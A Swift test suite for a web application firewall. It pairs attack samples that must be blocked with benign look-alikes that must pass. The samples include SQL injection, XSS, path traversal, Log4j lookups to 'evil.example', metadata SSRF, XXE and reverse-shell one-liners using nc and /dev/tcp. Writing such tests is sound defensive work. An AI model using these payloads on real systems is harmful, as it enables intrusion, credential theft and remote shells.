import HTTP
import Testing
@testable import Security

/// For each rule: attack samples blocked, look-alike benign samples allowed.
@Suite struct WAFRuleTests {
    @Test(arguments: [
        "1' or '1'='1", "admin'--", "' OR 1=1 -- -", "1 union select null,version()", "1 UN/**/ION SEL/**/ECT 1,2",
        "1; DROP TABLE users--", "1' AND SLEEP(5)#", "'; WAITFOR DELAY '0:0:5'--", "1 AND (SELECT 1 FROM dual)=1",
        "\" or \"\"=\"", "') or ('a'='a", "1 or 1=1", "-1 UNION ALL SELECT table_name FROM information_schema.tables",
        "1' ORDER BY 3--", "admin' #", "1;select pg_sleep(10)", "' and extractvalue(1,concat(0x7e,version()))--",
        "SELECT * FROM users WHERE id = 1", "%27%20OR%201%3D1--", "1'||(select @@version)||'",
    ])
    func sqlInjectionIsBlocked(_ payload: String) {
        #expect(blockingRule(query: payload) == .sqlInjection, "\(payload)")
    }

    @Test(arguments: [
        "Select the venue; drop off the kids -- or not", "O'Reilly's union meeting", "Don't forget: SELECT * is slow",
        "Call mom; select a gift for her", "Fix the select query in the users page", "It's 5 o'clock somewhere",
        "Read \"Dune\" or \"Foundation\"", "1 or 2 apples", "2+2=4", "Tom's or Jerry's turn", "Choose 'A' or 'B'",
        "rock 'n' roll", "Drop table reservations for Friday", "order by Friday", "-- draft --", "email bob@example.com",
        "Use 'SELECT 1' to ping the db", "Add index on created_at; update the docs", "Union Station at 5pm",
    ])
    func proseWithSQLWordsPasses(_ text: String) {
        #expect(blockingRule(query: text) == nil, "\(text)")
        #expect(blockingRule(title: text) == nil, "\(text)")
    }

    @Test(arguments: [
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "javascript:alert(document.cookie)",
        "\"><script>alert('x')</script>", "<iframe src=\"javascript:alert(1)\">", "&lt;script&gt;alert(1)&lt;/script&gt;",
        "<body onload=alert(1)>", "\" onmouseover=\"alert(1)", "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "<details open ontoggle=prompt(1)>", "'-alert(1)-'",
        "<object data=\"x.swf\">", "%3Cscript%3Ealert%281%29%3C%2Fscript%3E",
    ])
    func crossSiteScriptingIsBlocked(_ payload: String) {
        #expect(blockingRule(query: payload) == .crossSiteScripting, "\(payload)")
    }

    @Test(arguments: [
        "a < b && c > d", "use <b> sparingly", "fix the <div> alignment", "Move the <script> tag to the footer",
        "JavaScript: read chapter 3", "<3 you", "x<y and y>z", "Set up alert (PagerDuty)", "Learn about onload events",
    ])
    func proseAboutMarkupPasses(_ text: String) {
        #expect(blockingRule(query: text) == nil, "\(text)")
        #expect(blockingRule(title: text) == nil, "\(text)")
    }

    @Test(arguments: [
        "../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "%252e%252e%252fetc%252fpasswd", "....//....//etc/passwd",
        "..\\..\\windows\\win.ini", "/proc/self/environ", "php://filter/convert.base64-encode/resource=index.php",
        "file:///etc/shadow", "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", "c:\\boot.ini",
    ])
    func traversalIsBlocked(_ payload: String) {
        #expect(blockingRule(query: payload) == .localFileInclusion, "\(payload)")
    }

    @Test(arguments: ["cd ../app and run tests", "see ../docs/README.md", "C:\\Users\\me\\notes.txt", "~/Documents/report.pdf"])
    func pathsInTextPass(_ text: String) {
        #expect(blockingRule(title: text) == nil, "\(text)")
    }

    @Test(arguments: [
        "; cat /etc/passwd", "| nc 10.0.0.1 4444 -e /bin/sh", "`id`", "$(whoami)", "127.0.0.1; id", "x && sleep 5",
        "|| ping -c 10 127.0.0.1", "; bash -i >& /dev/tcp/10.0.0.1/8080 0>&1", "() { :; }; /bin/bash -c 'id'", "cat${IFS}/etc/passwd",
    ])
    func commandInjectionIsBlocked(_ payload: String) {
        let rule = blockingRule(query: payload)
        #expect(rule == .commandInjection || rule == .localFileInclusion, "\(payload)")
    }

    @Test(arguments: [
        "run `npm install && npm test`", "cd ~/project; git pull", "grep -r TODO src | wc -l", "curl -fsSL https://get.docker.com | sh",
        "ls -la in the home folder", "Buy milk & eggs; call Bob", "Idea: identity provider", "echo $HOME", "docker compose up -d",
    ])
    func shellSnippetsInTextPass(_ text: String) {
        #expect(blockingRule(title: text) == nil, "\(text)")
    }

    @Test(arguments: [
        "${jndi:ldap://evil.example/a}", "${${lower:j}ndi:ldap://x/a}", "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}",
        "${${env:BARFOO:-j}ndi${env:BARFOO:-:}ldap://x}", "${jndi:dns://x}",
    ])
    func log4jIsBlocked(_ payload: String) {
        #expect(blockingRule(query: payload) == .log4j, "\(payload)")
    }

    @Test(arguments: [
        "http://169.254.169.254/latest/meta-data/", "http://2852039166/", "http://0xa9fea9fe/", "http://0251.0376.0251.0376/",
        "http://[::ffff:169.254.169.254]/", "http://metadata.google.internal/computeMetadata/v1/", "http://169.254.43518/",
    ])
    func metadataSSRFIsBlocked(_ payload: String) {
        #expect(blockingRule(query: payload) == .metadataSSRF, "\(payload)")
    }

    /// A metadata path inside prose in a JSON body (the gate once required a digit or `.:-[`).
    @Test(arguments: ["see /latest/api/token", "read /metadata/identity here", "GET /openstack/latest then"])
    func metadataPathInABodyIsBlocked(_ text: String) {
        let body = #"{"title":"a","description":""# + text + #""}"#
        #expect(verdict(makeRequest(method: "POST", target: "/todos", headers: [("User-Agent", "x"), ("Content-Type", "application/json")],
                                    body: body)).blocking?.rule == .metadataSSRF)
    }

    @Test func templateNoSQLCRLFAndXXE() {
        for payload in ["{{7*7}}", "${7*7}", "{{config.__class__.__init__.__globals__}}", "<%= system('id') %>", "#{7*7}"] {
            #expect(blockingRule(query: payload) != nil, "\(payload)")
        }
        for text in ["Use {{name}} in the email template", "Price: ${price} per seat", "Weekly sync {{team}}"] {
            #expect(blockingRule(title: text) == nil, "\(text)")
        }
        #expect(verdict(makeRequest(target: "/todos?user[$ne]=x")).blocking?.rule == .noSQLInjection)
        #expect(blockingRule(query: "{\"$gt\": \"\"}") == .noSQLInjection)
        #expect(blockingRule(title: "Budget: $500 for the offsite") == nil)
        #expect(blockingRule(query: "x%0d%0aSet-Cookie:%20session=evil") == .crlfInjection)
        #expect(blockingRule(title: "line one\nline two: details") == nil)  // a real newline in a description
        #expect(blockingRule(query: "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>") != nil)
        #expect(blockingRule(title: "Write the <!-- TODO --> comments in the HTML") == nil)
    }

    @Test func remoteInclusionInParameters() {
        #expect(blockingRule(query: "http://203.0.113.9/shell.txt") == .remoteFileInclusion)
        #expect(blockingRule(query: "https://evil.example/x.php?") == .remoteFileInclusion)
        #expect(blockingRule(query: "https://github.com/apple/swift") == nil)
        #expect(blockingRule(title: "Read https://example.com/docs?page=2") == nil)
    }

    @Test func exploitablePathsAndMethods() {
        for path in ["/.git/config", "/.env", "/wp-admin/", "/phpmyadmin/index.php", "/actuator/env", "/server-status", "/index.php", "/.%2e/.git/HEAD"] {
            #expect(verdict(makeRequest(target: path)).blocking?.rule == .exploitablePaths, "\(path)")
        }
        for path in ["/todos", "/todos/8d2c6d41-7f42-4a0f-a6a0-1f1f1f1f1f1f", "/health", "/openapi.yaml"] {
            #expect(verdict(makeRequest(target: path)).blocking == nil, "\(path)")
        }
        for method in ["TRACE", "TRACK", "PROPFIND", "DEBUG"] {
            #expect(verdict(makeRequest(method: method, target: "/todos")).blocking?.rule == .restrictedMethods, "\(method)")
        }
    }

    @Test func userAgents() {
        #expect(verdict(makeRequest(target: "/todos", headers: [])).blocking?.rule == .noUserAgent)
        #expect(verdict(makeRequest(target: "/todos", headers: [("User-Agent", " ")])).blocking?.rule == .noUserAgent)
        #expect(verdict(makeRequest(target: "/health", headers: [])).blocking == nil)  // probes may omit it
        for scanner in ["sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.1.6)", "masscan/1.3", "Mozilla/5.0 zgrab/0.x", "Nmap Scripting Engine"] {
            #expect(verdict(makeRequest(target: "/todos", headers: [("User-Agent", scanner)])).blocking?.rule == .badBots, "\(scanner)")
        }
        for client in ["curl/8.4.0", "python-requests/2.31.0", "Go-http-client/1.1", "ELB-HealthChecker/2.0", "PostmanRuntime/7.36.0", "okhttp/4.12.0",
                       "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"] {
            #expect(verdict(makeRequest(target: "/todos", headers: [("User-Agent", client)])).blocking == nil, "\(client)")
        }
    }

    @Test func hostLocalhostOnlyFromInternetClients() {
        let probe = makeRequest(target: "/todos", host: "localhost")
        #expect(verdict(probe).blocking?.rule == .hostLocalhost)
        #expect(verdict(probe, peer: IPAddress("127.0.0.1")!).blocking == nil)
        // `docker compose up` + `curl localhost:8000`: the peer is the bridge network's gateway.
        #expect(verdict(probe, peer: IPAddress("172.18.0.1")!).blocking == nil)
        for address in ["10.1.2.3", "192.168.1.10", "100.64.0.1", "169.254.1.1", "fd00::1", "fe80::1", "::1"] {
            #expect(verdict(probe, peer: IPAddress(address)!).blocking == nil, "\(address)")
        }
        for external in ["203.0.113.7", "172.32.0.1", "8.8.8.8", "2001:db8::1", "100.128.0.1"] {
            #expect(verdict(probe, peer: IPAddress(external)!).blocking?.rule == .hostLocalhost, "\(external)")
        }
        #expect(verdict(makeRequest(target: "/todos", host: "127.0.0.1:8000")).blocking?.rule == .hostLocalhost)
        #expect(verdict(makeRequest(target: "/todos", host: "api.example.com")).blocking == nil)
        #expect(verdict(makeRequest(target: "/todos", host: "api.example.com:8000")).blocking == nil)
        // The Host is a header like any other for the content rules. (With spaces, "x' or '1'='1"
        // is no longer a valid Host: the parser answers 400 before the filter sees it.)
        #expect(verdict(makeRequest(target: "/todos", host: "x'or'1'='1")).blocking?.rule == .sqlInjection)
    }

    @Test func mediaTypesAreMatchedIgnoringCase() {
        #expect(TextTransform.containsCaseInsensitive("Application/JSON; charset=utf-8".utf8, "json"))
        #expect(TextTransform.containsCaseInsensitive("application/x-www-form-urlencoded".utf8, "x-www-form-urlencoded"))
        #expect(!TextTransform.containsCaseInsensitive("text/plain".utf8, "json"))
    }

    @Test func aJSONBodyIsInspectedWhateverTheCaseOfItsMediaType() {
        let request = makeRequest(method: "POST", target: "/todos", headers: [("User-Agent", "t"), ("Content-Type", "APPLICATION/JSON")],
                                  body: #"{"title":"<script>alert(1)</script>"}"#)
        #expect(verdict(request).blocking?.rule == .crossSiteScripting)
    }

    @Test func sizeLimits() {
        var configuration = WAFConfiguration()
        configuration.maxQueryStringBytes = 100
        #expect(verdict(makeRequest(target: "/todos?q=" + String(repeating: "a", count: 200)), configuration: configuration).blocking?.rule == .sizeQueryString)
        #expect(verdict(makeRequest(target: "/todos/" + String(repeating: "a", count: 2000))).blocking?.rule == .sizeURIPath)
        #expect(verdict(makeRequest(target: "/todos", headers: [("User-Agent", "x"), ("Cookie", "a=" + String(repeating: "b", count: 11000))])).blocking?.rule == .sizeCookie)
        let big = "{\"title\":\"" + String(repeating: "x", count: 40000) + "\"}"
        #expect(verdict(makeRequest(method: "POST", target: "/todos", headers: [("User-Agent", "x"), ("Content-Type", "application/json")], body: big)).blocking?.rule == .sizeBody)
    }

    @Test func everyPlaceIsInspected() {
        let attack = "' or 1=1--"
        #expect(verdict(makeRequest(target: "/todos/" + percentEncode(attack))).blocking?.rule == .sqlInjection)
        #expect(verdict(makeRequest(target: "/todos?" + percentEncode(attack) + "=1")).blocking?.rule == .sqlInjection)
        #expect(verdict(makeRequest(target: "/todos", headers: [("User-Agent", "x"), ("X-Anything", attack)])).blocking?.rule == .sqlInjection)
        #expect(verdict(makeRequest(target: "/todos", headers: [("User-Agent", "x"), ("Cookie", "a=1; session=" + percentEncode(attack))])).blocking?.rule == .sqlInjection)
        #expect(verdict(makeRequest(target: "/todos", headers: [("User-Agent", "x"), ("Referer", "https://x.example/?q=" + percentEncode(attack))])).blocking?.rule == .sqlInjection)
        #expect(blockingRule(title: attack) == .sqlInjection)
        let nested = #"{"title":"ok","tags":[{"note":"<script>alert(1)</script>"}]}"#
        #expect(verdict(makeRequest(method: "POST", target: "/todos", headers: [("User-Agent", "x"), ("Content-Type", "application/json")], body: nested)).blocking?.rule == .crossSiteScripting)
        let escaped = #"{"title":"\u003cscript\u003ealert(1)\u003c/script\u003e"}"#
        #expect(verdict(makeRequest(method: "POST", target: "/todos", headers: [("User-Agent", "x"), ("Content-Type", "application/json")], body: escaped)).blocking?.rule == .crossSiteScripting)
        let operatorKey = #"{"title":{"$ne":null}}"#
        #expect(verdict(makeRequest(method: "POST", target: "/todos", headers: [("User-Agent", "x"), ("Content-Type", "application/json")], body: operatorKey)).blocking?.rule == .noSQLInjection)
    }

    @Test func countModeRecordsWithoutBlocking() {
        var configuration = WAFConfiguration()
        #expect(configuration.apply(rules: "sqli=count") == nil)
        let result = verdict(makeRequest(target: "/todos?q=" + percentEncode("1' or '1'='1")), configuration: configuration)
        #expect(result.blocking == nil)
        #expect(result.matches.map(\.rule) == [.sqlInjection])
        #expect(result.matches.first?.action == .count)
        #expect(configuration.apply(rules: "SQLi=off") == nil)
        #expect(verdict(makeRequest(target: "/todos?q=" + percentEncode("1' or '1'='1")), configuration: configuration).matches.isEmpty)
        #expect(configuration.apply(rules: "nonsense=block") != nil)
        #expect(configuration.apply(rules: "sqli=maybe") != nil)
    }

    @Test func allowAndDenyLists() {
        var configuration = WAFConfiguration()
        configuration.denyList = [IPNetwork("203.0.113.0/24")!]
        #expect(verdict(makeRequest(target: "/todos"), configuration: configuration).blocking?.rule == .ipDenyList)
        configuration.denyList = []
        configuration.allowList = [IPNetwork("203.0.113.7")!]
        #expect(verdict(makeRequest(target: "/todos?q=" + percentEncode("' or 1=1--")), configuration: configuration).blocking == nil)
    }
}
